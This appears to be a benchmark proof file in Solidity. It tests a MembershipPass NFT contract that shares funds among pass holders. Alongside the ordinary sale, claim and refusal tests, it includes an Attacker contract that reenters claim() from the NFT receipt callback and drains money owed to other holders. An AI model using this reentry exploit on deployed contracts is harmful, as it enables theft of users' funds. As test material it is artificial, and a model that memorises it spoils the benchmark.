// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./MembershipPass.sol";

// assay-canary-cc607fbd-3742-45c7-a8c1-d80530bbe9d6

interface Vm {
    function deal(address who, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    MembershipPass internal pass;
    Attacker internal mallory;

    function setUp() public {
        vm.deal(address(this), 100 ether);
        vm.deal(ANA, 10 ether);
        vm.deal(BEN, 10 ether);
        pass = new MembershipPass(1 ether);
        vm.prank(ANA);
        pass.buy{value: 3 ether}(3);
        (bool ok, ) = address(pass).call{value: 30 ether}("");
        require(ok && pass.perPass() == 10 ether, "shared by three");
        mallory = new Attacker{value: 3 ether}(pass);
    }

    function test_Regular() public {
        vm.startPrank(BEN);
        pass.buy{value: 2 ether}(2);
        require(pass.due(4) == 0 && pass.due(1) == 10.2 ether && pass.ownerOf(5) == BEN, "the sale is the others'");
        vm.stopPrank();
        vm.startPrank(ANA);
        require(pass.claim(1) == 10.2 ether && ANA.balance == 17.2 ether, "claimed");
        pass.approve(BEN, 2);
        pass.setApprovalForAll(address(this), true);
        vm.stopPrank();
        vm.prank(BEN);
        pass.transferFrom(ANA, BEN, 2);
        pass.safeTransferFrom(ANA, BEN, 1);
        pass.safeTransferFrom(ANA, BEN, 3, "gift");
        vm.prank(BEN);
        require(pass.claim(2) == 10.2 ether, "a pass takes its money along");
        (bool ok, ) = address(pass).call{value: 6 wei}("");
        require(ok && pass.due(1) == 1 && pass.clubMoney() == 4.4 ether + 1, "the rest is the club's");
        pass.withdrawClubMoney(ANA);
        require(ANA.balance == 21.6 ether + 1 && pass.clubMoney() == 0, "withdrawn");
        require(address(pass).balance == 10.2 ether + 5, "due to the third pass, and a wei to each");
        pass.transferOwnership(ANA);
        vm.prank(ANA);
        pass.renounceOwnership();
    }

    function test_RefusesOthers() public {
        vm.startPrank(BEN);
        vm.expectRevert("not your pass");
        pass.claim(1);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        pass.withdrawClubMoney(BEN);
        vm.stopPrank();
        vm.startPrank(ANA);
        pass.claim(1);
        vm.expectRevert("nothing due");
        pass.claim(1);
        vm.stopPrank();
        address shut = address(new Shut());
        vm.expectRevert("not paid");
        pass.withdrawClubMoney(shut);
    }

    function test_RefusesSales() public {
        vm.startPrank(BEN);
        vm.expectRevert("one to ten at once");
        pass.buy(0);
        vm.expectRevert("one to ten at once");
        pass.buy(11);
        vm.expectRevert(abi.encodeWithSelector(WrongValue.selector, 1 ether, 2 ether));
        pass.buy{value: 1 ether}(2);
        vm.stopPrank();
        vm.deal(ANA, 1000 ether);
        vm.startPrank(ANA);
        for (uint256 i = 0; i < 9; i++) pass.buy{value: 10 ether}(10);
        vm.expectRevert(SoldOut.selector);
        pass.buy{value: 8 ether}(8);
        pass.buy{value: 7 ether}(7);
        vm.stopPrank();
    }

    function test_RefusesReentry() public {
        Again again = new Again(pass);
        vm.deal(address(again), 2 ether);
        again.run();
        require(pass.sold() == 4 && pass.ownerOf(4) == address(again), "one sale at a time");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 23 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pass);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Shut {}

// buys another pass while one arrives
contract Again {
    MembershipPass internal pass;
    bool internal inside;

    constructor(MembershipPass pass_) {
        pass = pass_;
    }

    function run() external {
        pass.buy{value: 1 ether}(1);
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        if (!inside) {
            inside = true;
            (bool ok, ) = address(pass).call{value: 1 ether}(abi.encodeCall(pass.buy, (1)));
            ok;
        }
        return this.onERC721Received.selector;
    }
}

contract Attacker {
    MembershipPass internal pass;

    constructor(MembershipPass pass_) payable {
        pass = pass_;
    }

    function run() external {
        pass.buy{value: 3 ether}(3);
    }

    function onERC721Received(address, address, uint256 id, bytes calldata) external returns (bytes4) {
        pass.claim(id);
        return this.onERC721Received.selector;
    }

    receive() external payable {}
}
